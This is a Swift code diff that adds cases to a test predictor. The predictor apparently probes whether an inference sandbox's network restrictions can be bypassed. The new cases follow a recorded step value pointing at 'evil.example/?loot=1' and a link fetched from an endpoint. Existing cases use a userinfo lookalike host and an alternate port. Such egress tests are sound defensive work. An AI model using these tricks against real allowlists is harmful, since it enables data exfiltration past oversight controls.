@@ -22,6 +22,13 @@ struct Inference: Predictor {
         case "lookalike":
             _ = try await setup.transport.send(HTTPRequest("GET", "https://cv.byteplusapi.com@evil.example/"))
         case "port": _ = try await setup.transport.send(HTTPRequest("GET", "https://cv.byteplusapi.com:8443/"))
+        case "recorded": try await follow(try await context.step("note") { "https://evil.example/?loot=1" })
+        case "answered":
+            let link = try await context.step("ask") {
+                let answer = try await setup.transport.send(HTTPRequest("GET", "\(setup.endpoint ?? "")/link"))
+                return String(decoding: answer.body, as: UTF8.self)
+            }
+            try await follow(link)
         case "results":
             for number in 0..<2_000 { try await context.step("s\(number)") { String(repeating: "a", count: 60_000) } }
         case "shout":
@@ -34,6 +41,10 @@ struct Inference: Predictor {
         default: return Output(found: trick.outcome(of: input.trick))
         }
         return Output(found: "ok")
+    }
+
+    private func follow(_ link: String) async throws {
+        _ = try await setup.transport.send(HTTPRequest("GET", link))
     }
 }
 
